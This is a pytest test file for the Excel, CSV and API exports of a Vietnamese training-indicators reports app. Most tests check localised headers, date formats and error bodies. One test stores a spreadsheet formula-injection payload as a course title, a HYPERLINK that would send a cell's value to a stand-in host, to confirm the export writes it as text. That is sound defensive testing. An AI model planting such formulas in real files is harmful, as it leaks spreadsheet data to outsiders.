"""The Excel and CSV exports of the reports page and the indicators API, checked against the
hand-built world."""

import csv
import datetime
import io
import json

import pytest
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from rest_framework.utils.encoders import JSONEncoder

from events.enums import OrganizationKind
from events.models import Event
from reports.indicators import DRILLABLE, Period, compute, drill

pytestmark = pytest.mark.django_db

YEAR_2025 = Period(datetime.date(2025, 1, 1), datetime.date(2025, 12, 31))
QUERY = "start=2025-01-01&end=2025-12-31"
API = "/api/v1/reports/indicators/"


def vi(message: str) -> str:
    with translation.override("vi"):
        return gettext(message)


def values(row) -> list:
    return [cell.value for cell in row]


@pytest.fixture
def workbook(world, client, report_viewer):
    client.force_login(report_viewer)
    response = client.get(f"/reports/?{QUERY}&format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="chi-so-20250101-20251231.xlsx"'
    return load_workbook(io.BytesIO(response.content))


# --- Excel --------------------------------------------------------------------------------------------------


def test_xlsx_has_the_indicator_sheet_and_one_sheet_per_drill_down(workbook):
    report = compute(YEAR_2025)

    assert workbook.sheetnames == [vi("Indicators")] + [str(report.figure(k).label)[:31] for k in DRILLABLE]
    assert workbook.sheetnames[0] == "Chỉ số"


def test_xlsx_indicator_sheet_cells(world, workbook):
    report = compute(YEAR_2025)
    sheet = workbook.worksheets[0]
    rows = list(sheet.iter_rows())

    # The period: dates as dates, shown the Vietnamese way.
    assert values(rows[0])[:3] == [
        vi("Period"),
        datetime.datetime(2025, 1, 1),
        datetime.datetime(2025, 12, 31),
    ]
    assert [(cell.is_date, cell.number_format) for cell in rows[0][1:3]] == [(True, "DD/MM/YYYY")] * 2
    # Vietnamese headers, then one row per indicator with its value as a number.
    assert values(rows[2]) == ["Nhóm", "Chỉ số", "Giá trị", "Đơn vị tính", "Cách tính"]
    figure_rows = rows[3 : 3 + len(report.figures)]
    assert [values(row)[:4] for row in figure_rows] == [
        [str(f.group), str(f.label), f.value, f.unit or None] for f in report.figures
    ]
    assert [row[2].data_type for row in figure_rows] == ["n"] * len(report.figures)
    by_label = {row[1].value: row[2].value for row in figure_rows}
    assert (by_label["Số học viên đăng ký"], by_label["Tỷ lệ tham dự"], by_label["Tổng số giờ tập huấn"]) == (
        7,
        85.7,
        13,
    )
    assert [values(row)[4] for row in figure_rows] == [f.definition for f in report.figures]
    # The targets with this year's milestone, then trainees by kind of organisation.
    after = rows[3 + len(report.figures) + 1 :]
    assert [values(row) for row in after[:4]] == [
        ["Giai đoạn", "Giá trị", "Chỉ tiêu", "Tỷ lệ (%)", "Mốc của năm"],
        ["Tiền ươm tạo", 2, 1000, 0.2, 400],
        ["Ươm tạo", 3, 700, 0.4, 280],
        ["Tăng tốc", 2, 200, 1, 80],
    ]
    labels = dict(OrganizationKind.choices)
    counts = {"innovation_centre": 1, "university": 1, "state_agency": 2, "startup": 1}
    kinds_end = 5 + len(OrganizationKind.values) + 2
    assert [values(row)[:2] for row in after[5:kinds_end]] == [
        [vi("Trainees by kind of organisation"), vi("People")],
        *[[str(labels[kind]), counts.get(kind, 0)] for kind in OrganizationKind.values],
        [vi("Not stated"), 1],
    ]
    # The quarters, named the Vietnamese way (issue 19), and the period's name beside its dates.
    assert [values(row)[:3] for row in after[kinds_end + 1 :]] == [
        ["Quý", "Số dự án được hỗ trợ", "Số học viên tham dự"],
        ["Quý I/2025", 2, 4],
        ["Quý II/2025", 1, 0],
        ["Quý III/2025", 3, 3],
        ["Quý IV/2025", 1, 0],
    ]
    assert values(rows[0])[3] == "Năm 2025"


def test_xlsx_drill_sheets_hold_the_rows_behind_each_figure(world, workbook):
    report = compute(YEAR_2025)

    for index, key in enumerate(DRILLABLE, start=1):
        sheet = workbook.worksheets[index]
        rows = list(sheet.iter_rows(values_only=True))
        expected = drill(key, YEAR_2025)
        assert list(rows[0]) == expected.columns, key
        if key == "training_hours":
            assert round(sum(row[3] for row in rows[1:]), 1) == report.figure(key).value
        elif key in ("exhibitor_leads", "exhibitor_meetings_reported"):  # sums of the teams' answers
            assert sum(row[2] for row in rows[1:]) == report.figure(key).value
        else:
            assert len(rows) - 1 == report.figure(key).value, key


def test_xlsx_drill_cells_are_dates_and_numbers(world, workbook):
    sessions = workbook[str(compute(YEAR_2025).figure("sessions_held").label)[:31]]
    projects = workbook[str(compute(YEAR_2025).figure("projects_supported").label)[:31]]

    first = next(sessions.iter_rows(min_row=2, max_row=2))
    # Local (Ho Chi Minh City) time: Excel has no time zones.
    assert values(first) == [
        world.courses["C1"].event.title_vi,
        datetime.datetime(2025, 3, 10, 8, 0),
        datetime.datetime(2025, 3, 10, 11, 0),
        3,
    ]
    assert [c.number_format for c in first[1:3]] == ["DD/MM/YYYY HH:MM"] * 2
    assert first[3].data_type == "n"
    rows = list(projects.iter_rows(min_row=2))
    assert [values(row) for row in rows] == [
        [world.projects["P1"].name, datetime.datetime(2025, 3, 10), "Tiền ươm tạo", 3],
        [world.projects["P5"].name, datetime.datetime(2025, 11, 1), "Tiền ươm tạo", 1],
        [world.projects["P3"].name, datetime.datetime(2025, 2, 1), "Ươm tạo", 3],
        [world.projects["P2"].name, datetime.datetime(2025, 8, 20), "Ươm tạo", 1],
    ]
    assert {row[1].number_format for row in rows} == {"DD/MM/YYYY"}


# --- CSV ----------------------------------------------------------------------------------------------------


def test_csv_starts_with_bom_and_keeps_vietnamese(world, client, report_viewer):
    client.force_login(report_viewer)
    report = compute(YEAR_2025)

    response = client.get(f"/reports/?{QUERY}&format=csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Nhóm", "Chỉ số", "Giá trị", "Đơn vị tính", "Từ ngày", "Đến ngày"]
    assert rows[1:] == [
        [
            str(f.group),
            str(f.label),
            "" if f.value is None else str(f.value),
            f.unit,
            "2025-01-01",
            "2025-12-31",
        ]
        for f in report.figures
    ]
    assert rows[1][:3] == ["Tập huấn", "Số lớp tập huấn đã tổ chức", "2"]


# --- API ----------------------------------------------------------------------------------------------------


def test_api_returns_the_same_figures_as_compute(world, api_client, report_viewer):
    api_client.force_login(report_viewer)

    response = api_client.get(f"{API}?{QUERY}")

    assert response.status_code == 200
    expected = json.loads(json.dumps(compute(YEAR_2025).as_dict(), cls=JSONEncoder))
    assert response.json() == expected
    assert response.json()["indicators"]["trainees_registered"] == 7


def test_api_quarter_period(world, api_client, report_viewer):
    api_client.force_login(report_viewer)

    body = api_client.get(f"{API}?start=2025-07-01&end=2025-09-30").json()

    assert (body["start"], body["end"]) == ("2025-07-01", "2025-09-30")
    assert body["indicators"] == compute(Period.quarter(2025, 3)).as_dict()["indicators"]


@pytest.mark.parametrize(
    ("query", "fields"),
    [
        (
            "start=2025-12-31&end=2025-01-01",
            {"non_field_errors": ["Ngày kết thúc không được trước ngày bắt đầu."]},
        ),
        ("start=hom-qua&end=2025-01-01", {"start": ["Nhập một ngày hợp lệ."]}),
        ("start=2025-01-01&end=2025-13-45", {"end": ["Nhập một ngày hợp lệ."]}),
    ],
    ids=["end-before-start", "garbage-start", "impossible-end"],
)
def test_api_bad_dates_are_400_with_the_error_body(api_client, report_viewer, query, fields):
    api_client.force_login(report_viewer)

    response = api_client.get(f"{API}?{query}")

    assert response.status_code == 400
    assert response.json() == {
        "code": "invalid",
        "detail": vi("Some fields are not valid."),
        "fields": fields,
    }


def test_english_export_is_named_and_titled_in_english(world, client, report_viewer):
    client.force_login(report_viewer)

    response = client.get(f"/en/reports/?{QUERY}&format=xlsx")

    assert response["Content-Disposition"] == 'attachment; filename="indicators-20250101-20251231.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content))["Courses held"]
    titles = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert titles[:2] == [world.courses["C1"].event.title_en, world.courses["C2"].event.title_en]
    csv_response = client.get(f"/en/reports/?{QUERY}&format=csv")
    assert csv_response["Content-Disposition"] == 'attachment; filename="indicators-20250101-20251231.csv"'


def test_xlsx_survives_a_control_character_stored_in_a_name(world, client, report_viewer):
    registration = world.people["lan"][0]
    registration.full_name = "Nguyễn\x01 Thị\x1b Lan"
    registration.save(update_fields=["full_name"])
    client.force_login(report_viewer)

    response = client.get(f"/reports/?{QUERY}&format=xlsx")

    assert response.status_code == 200
    cells = [
        value
        for sheet in load_workbook(io.BytesIO(response.content)).worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
    ]
    assert "Nguyễn Thị Lan" in cells


def test_xlsx_writes_a_formula_like_course_title_as_text(world, client, report_viewer):
    course = world.courses["C1"].event
    title = '=HYPERLINK("http://x.example/?"&B2,"Xem")'
    Event.objects.filter(pk=course.pk).update(title_vi=title)  # stored without the form's checks
    client.force_login(report_viewer)

    response = client.get(f"/reports/?{QUERY}&format=xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))[vi("Courses held")]
    rows = list(sheet.iter_rows(min_row=2))
    title_cell = rows[0][0]
    assert (title_cell.value, title_cell.data_type, title_cell.quotePrefix) == (title, "s", True)
    assert [row[2].data_type for row in rows] == ["n"] * len(rows)  # sessions held: numbers
